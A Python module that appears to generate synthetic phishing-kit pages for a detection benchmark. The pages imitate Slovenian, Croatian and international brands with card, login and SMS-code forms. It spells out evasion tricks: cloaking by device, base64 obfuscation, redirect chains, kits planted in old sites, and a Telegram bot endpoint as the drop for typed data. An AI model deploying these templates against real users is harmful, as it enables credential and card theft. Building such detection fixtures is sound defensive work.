"""Families of fake pages: each a design of its own, in several languages, names and hostings."""

import base64
import random
from collections.abc import Callable
from io import BytesIO

from msgspec import Struct

from bench.pages.site import Site, by_agent, moved, page


class Bait(Struct, frozen=True):
    """Whom a kit imitates, and how it is worded."""

    name: str
    token: str
    lang: str
    greet: str
    give: str
    go: str


BAITS = (
    Bait("Pošta Slovenije", "posta-si", "sl", "Potrdite dostavo", "Vnesite podatke", "Naprej"),
    Bait("Hrvatska pošta", "hrvatskaposta", "hr", "Potvrdite dostavu", "Unesite podatke", "Dalje"),
    Bait("NLB", "nlb-klik", "sl", "Prijava v spletno banko", "Uporabniško ime", "Prijava"),
    Bait(
        "Zagrebačka banka", "zaba-hr", "hr", "Prijava u internet bankarstvo", "Korisnik", "Prijava"
    ),
    Bait("FURS", "furs", "sl", "Vračilo dohodnine", "Vnesite podatke za izplačilo", "Oddaj"),
    Bait("DHL", "dhl", "en", "Confirm your delivery", "Enter your details", "Continue"),
    Bait("PayPal", "paypal", "en", "Log in to your account", "E-mail", "Log in"),
    Bait("Microsoft 365", "office365", "en", "Sign in to continue", "E-mail", "Next"),
)
CARD = (
    '<input name="ccnum" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp">'
    '<input name="cvv" autocomplete="cc-csc">'
)
LOGIN = '<input name="user" type="text"><input name="pass" type="password">'
CODE = '<input name="otp" autocomplete="one-time-code" placeholder="SMS">'
WORDS = ("zlata", "modra", "rjava", "hitra", "nova", "tiha", "siva", "bela", "jasna", "topla",
         "lahka", "visoka", "gorska", "morska", "jesen", "zima", "pomlad", "poletje")  # fmt: skip


def kits(seed: int = 5, each: int = 4) -> list[Site]:
    """`each` sites of every family; the same seed gives the same."""
    rng = random.Random(seed)
    found = []
    for family in FAMILIES:
        baits = rng.sample(BAITS, each)
        for n, bait in enumerate(baits):
            found.append(family(bait, f"{rng.choice(WORDS)}{rng.randint(100, 999)}{n}", rng))
    return found


def _doc(lang: str, title: str, body: str, head: str = "") -> str:
    return (
        f'<!doctype html><html lang="{lang}"><head><title>{title}</title>{head}</head>'
        f"<body>{body}</body></html>"
    )


def parcel_card(bait: Bait, word: str, rng: random.Random) -> Site:
    """A card form under a name that carries the brand's."""
    body = (f"<header><b>{bait.name}</b></header><h1>{bait.greet}</h1><p>{bait.give}</p>"
            f'<form method="post" action="/k">{CARD}<button>{bait.go}</button></form>')  # fmt: skip
    return Site(family="parcel card", kit=True, host=f"{bait.token}-{word}.example", path="/i",
                pages={"/i": page(_doc(bait.lang, bait.greet, body))}, age=rng.randint(0, 5),
                lang=bait.lang)  # fmt: skip


def bank_login(bait: Bait, word: str, rng: random.Random) -> Site:
    """A login under a name that says nothing; the brand stands in the title."""
    body = (f'<div class="top">{bait.name}</div><h2>{bait.greet}</h2>'
            f'<form method="post" action="login.php">{LOGIN}<button>{bait.go}</button></form>')  # fmt: skip
    return Site(family="neutral login", kit=True, host=f"{word}.example", path="/p/",
                pages={"/p/": page(_doc(bait.lang, f"{bait.name} - {bait.greet}", body))},
                age=rng.randint(1, 20), lang=bait.lang)  # fmt: skip


def otp_relay(bait: Bait, word: str, rng: random.Random) -> Site:
    """A code form whose data go to another domain."""
    body = (f"<h1>{bait.name}</h1><p>{bait.greet}</p><form method=post "
            f'action="https://zbiralnik-{word}.example/r">{LOGIN}{CODE}<button>{bait.go}</button></form>')  # fmt: skip
    return Site(family="code relay", kit=True, host=f"app-{word}.example", path="/auth",
                pages={"/auth": page(_doc(bait.lang, bait.greet, body))}, age=rng.randint(0, 3),
                lang=bait.lang)  # fmt: skip


def free_hosting(bait: Bait, word: str, rng: random.Random) -> Site:
    """A refund form of a customer of a free platform; nobody knows the age."""
    body = (f"<section><h1>{bait.name}</h1><h2>{bait.greet}</h2><form method=post action=/send>"
            f'<input name="ime"><input name="iban" placeholder="IBAN">{CARD}'
            f"<button>{bait.go}</button></form></section>")  # fmt: skip
    return Site(family="free hosting", kit=True, host=f"{word}-portal.pages.dev", path="/",
                pages={"/": page(_doc(bait.lang, f"{bait.greet} | {bait.name}", body))}, age=None,
                lang=bait.lang)  # fmt: skip


def redirect_chain(bait: Bait, word: str, rng: random.Random) -> Site:
    """Two redirects over names without a meaning."""
    last, middle = f"cilj-{word}.example", f"most-{word}.example"
    body = (f"<h1>{bait.name}</h1><form method=post action=x>{LOGIN}{CARD}"
            f"<button>{bait.go}</button></form>")  # fmt: skip
    return Site(
        family="redirects", kit=True, host=f"kr-{word}.example", path="/q",
        pages={"/q": moved(f"http://{middle}:{{port}}/x")}, age=rng.randint(400, 900),
        hosts={middle: {"/x": moved(f"http://{last}:{{port}}/prijava")},
               last: {"/prijava": page(_doc(bait.lang, bait.name, body))}},
        ages={last: rng.randint(0, 6), middle: 40}, lang=bait.lang,
    )  # fmt: skip


def injected(bait: Bait, word: str, rng: random.Random) -> Site:
    """A script builds everything."""
    made = (
        f"<h1>{bait.name}</h1><form action=/go method=post>{LOGIN}<button>{bait.go}</button></form>"
    )
    script = (f"document.title={bait.name!r};"
              f"document.getElementById('r').innerHTML={made!r};")  # fmt: skip
    return Site(family="built by script", kit=True, host=f"web-{word}.example", path="/",
                pages={"/": page(_doc(bait.lang, "", f"<div id=r></div><script>{script}</script>"))},
                age=rng.randint(0, 9), lang=bait.lang)  # fmt: skip


def cloaked(bait: Bait, word: str, rng: random.Random) -> Site:
    """Phones get the kit, others a blog."""
    kit = _doc(bait.lang, bait.name,
               f"<h1>{bait.name}</h1><form method=post action=k>{CARD}<button>{bait.go}</button></form>")  # fmt: skip
    blog = _doc(bait.lang, "Vrt in dom", "<h1>Vrt in dom</h1><p>Kako obrezati vrtnice jeseni.</p>")
    return Site(family="phones only", kit=True, host=f"vrt-{word}.example", path="/d",
                pages={"/d": by_agent(kit, blog)}, age=rng.randint(0, 12), lang=bait.lang)  # fmt: skip


def framed(bait: Bait, word: str, rng: random.Random) -> Site:
    """The form stands in a frame of the same host."""
    inner = _doc(
        bait.lang, "", f"<form method=post action=z>{LOGIN}<button>{bait.go}</button></form>"
    )
    outer = _doc(bait.lang, f"{bait.name} | {bait.greet}",
                 f"<h1>{bait.name}</h1><iframe src='/f' width=400 height=300></iframe>")  # fmt: skip
    return Site(family="frame", kit=True, host=f"okno-{word}.example", path="/",
                pages={"/": page(outer), "/f": page(inner)}, age=rng.randint(0, 25),
                lang=bait.lang)  # fmt: skip


def obfuscated(bait: Bait, word: str, rng: random.Random) -> Site:
    """The page is base64 that a script writes out."""
    inner = (f"<title>{bait.name}</title><h1>{bait.name}</h1><form method=post action=/p>{CARD}"
             f"<button>{bait.go}</button></form>")  # fmt: skip
    code = base64.b64encode(inner.encode()).decode()
    script = ("document.write(new TextDecoder().decode(Uint8Array.from("
              f"atob('{code}'),c=>c.charCodeAt(0))))")  # fmt: skip
    return Site(family="obfuscated", kit=True, host=f"cdn-{word}.example", path="/s/",
                pages={"/s/": page(f"<html lang={bait.lang}><body><script>{script}</script></body></html>")},
                age=rng.randint(0, 8), lang=bait.lang)  # fmt: skip


def painted(bait: Bait, word: str, rng: random.Random) -> Site:
    """The brand is only in a picture."""
    body = (f'<img src="/h.png" width="700" height="120" alt=""><form method=post action=/p>{CARD}'
            f"<button>{bait.go}</button></form>")  # fmt: skip
    return Site(family="painted brand", kit=True, host=f"slika-{word}.example", path="/",
                pages={"/": page(_doc(bait.lang, bait.greet, body)),
                       "/h.png": page(_picture(bait.name), "image/png")},
                age=rng.randint(0, 15), lang=bait.lang)  # fmt: skip


def planted(bait: Bait, word: str, rng: random.Random) -> Site:
    """A kit deep in somebody's old site."""
    path = f"/wp-content/uploads/2026/{bait.token}/prijava.html"
    home = _doc("sl", f"Društvo {word}", "<h1>Naše društvo</h1><p>Pohod bo v soboto.</p>")
    body = f"<h1>{bait.name}</h1><form method=post action=s.php>{LOGIN}{CARD}<button>{bait.go}</button></form>"
    return Site(family="broken into", kit=True, host=f"drustvo-{word}.example", path=path,
                pages={"/": page(home), path: page(_doc(bait.lang, bait.name, body))},
                age=rng.randint(1500, 5000), lang=bait.lang)  # fmt: skip


def messenger(bait: Bait, word: str, rng: random.Random) -> Site:
    """What is typed goes to a messenger's bot."""
    script = (f"fetch('https://api.telegram.org/bot{rng.randint(10**9, 10**10)}:AAH"
              f"{''.join(rng.choices('abcdefXYZ0123456789_', k=32))}/sendMessage')")  # fmt: skip
    body = f"<h1>{bait.greet}</h1><form onsubmit='s()'>{LOGIN}<button>{bait.go}</button></form><script>function s(){{{script}}}</script>"
    return Site(family="messenger bot", kit=True, host=f"bot-{word}.example", path="/",
                pages={"/": page(_doc(bait.lang, f"{bait.name}", body))}, age=rng.randint(0, 30),
                lang=bait.lang)  # fmt: skip


def refreshed(bait: Bait, word: str, rng: random.Random) -> Site:
    """A waiting page leads on by itself."""
    last = f"vrata-{word}.example"
    wait = f'<html><head><meta http-equiv="refresh" content="0;url=http://{last}:{{port}}/l"></head><body>…</body></html>'
    body = (
        f"<h1>{bait.name}</h1><form method=post action=/l2>{LOGIN}<button>{bait.go}</button></form>"
    )
    return Site(family="waiting page", kit=True, host=f"cakaj-{word}.example", path="/w",
                pages={"/w": page(wait)},
                hosts={last: {"/l": page(_doc(bait.lang, bait.name, body))}},
                ages={last: rng.randint(0, 9)}, age=rng.randint(0, 9), lang=bait.lang)  # fmt: skip


def two_steps(bait: Bait, word: str, rng: random.Random) -> Site:
    """The first page asks for the address only, the card comes on the next."""
    first = (f"<h1>{bait.name}: {bait.greet}</h1><form method=get action=/2>"
             '<input name="street" autocomplete="street-address"><input name="zip" autocomplete="postal-code">'
             f'<input name="tel" type="tel"><button>{bait.go}</button></form>')  # fmt: skip
    second = (
        f"<h1>{bait.name}</h1><form method=post action=/3>{CARD}<button>{bait.go}</button></form>"
    )
    return Site(family="two steps", kit=True, host=f"{bait.token}.{word}.example", path="/",
                pages={"/": page(_doc(bait.lang, bait.greet, first)),
                       "/2": page(_doc(bait.lang, bait.greet, second))},
                age=rng.randint(0, 6), lang=bait.lang)  # fmt: skip


def left_archive(bait: Bait, word: str, rng: random.Random) -> Site:
    """The server lists its folder, with the kit's archive in it."""
    listing = ("<html><head><title>Index of /</title></head><body><h1>Index of /</h1><ul>"
               f'<li><a href="{bait.token}.zip">{bait.token}.zip</a></li><li><a href="l/">l/</a></li></ul></body></html>')  # fmt: skip
    body = f"<h1>{bait.name}</h1><form method=post action=p.php>{LOGIN}<button>{bait.go}</button></form>"
    return Site(family="left archive", kit=True, host=f"mapa-{word}.example", path="/l/",
                pages={"/": page(listing), "/l/": page(_doc(bait.lang, bait.name, body)),
                       f"/{bait.token}.zip": page(b"PK\x03\x04", "application/zip")},
                age=rng.randint(0, 40), lang=bait.lang)  # fmt: skip


def nameless(bait: Bait, word: str, rng: random.Random) -> Site:
    """A mailbox login that imitates nobody we protect, brought by a lure."""
    text = {"sl": "Vaš poštni predal je poln. Takoj potrdite geslo: ",
            "hr": "Vaš sandučić je pun. Odmah potvrdite lozinku: ",
            "en": "Your mailbox is full. Confirm your password immediately: "}[bait.lang]  # fmt: skip
    body = f"<h1>Webmail</h1><form method=post action='https://zbir-{word}.example/x'>{LOGIN}<button>OK</button></form>"
    return Site(family="no brand", kit=True, host=f"predal-{word}.pages.dev", path="/",
                pages={"/": page(_doc(bait.lang, "Webmail", body))}, age=None, lang=bait.lang,
                text=text)  # fmt: skip


def _picture(words: str) -> bytes:
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("RGB", (700, 120), "white")
    font = ImageFont.load_default(size=64)
    ImageDraw.Draw(image).text((20, 20), words, fill="black", font=font)
    out = BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


FAMILIES: tuple[Callable[[Bait, str, random.Random], Site], ...] = (
    parcel_card, bank_login, otp_relay, free_hosting, redirect_chain, injected, cloaked, framed,
    obfuscated, painted, planted, messenger, refreshed, two_steps, left_archive, nameless,
)  # fmt: skip
